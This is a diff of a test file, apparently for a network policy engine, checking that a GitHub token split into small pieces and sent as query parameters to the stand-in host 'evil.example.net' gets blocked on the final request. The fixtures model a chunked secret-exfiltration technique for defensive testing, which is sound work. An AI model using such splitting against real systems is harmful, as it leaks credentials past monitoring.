@@ -43,11 +43,18 @@ def test_five_character_query_pieces_to_one_site_block_the_last() -> None:
         _get("evil.example.net", f"/c?i={n}&d={piece}", flow=f"flow-{n}")
         for n, piece in enumerate(_pieces(GITHUB, 5))
     ]
+    decisions = [engine.check_request(r) for r in requests]
+    assert [d.verdict for d in decisions[:-1]] == [Verdict.ALLOW] * (len(requests) - 1)
+    assert decisions[-1].verdict is Verdict.BLOCK
+    assert "flow-0" in decisions[-1].reason
+    assert f"flow-{len(requests) - 1}" in decisions[-1].reason
+
+
+def test_four_character_pieces_cut_through_the_anchor() -> None:
+    engine = policy(**OPEN)
+    requests = [_get("evil.example.net", f"/c?d={piece}") for piece in _pieces(GITHUB, 4)]
     verdicts = _verdicts(engine, requests)
-    assert verdicts[:-1] == [Verdict.ALLOW] * (len(requests) - 1)
-    assert verdicts[-1] is Verdict.BLOCK
-    reason = engine.check_request(requests[-1]).reason
-    assert "flow-0" in reason and f"flow-{len(requests) - 1}" in reason
+    assert verdicts == [Verdict.ALLOW] * (len(requests) - 1) + [Verdict.BLOCK]
 
 
 def test_pieces_as_host_labels_and_over_several_domains() -> None:
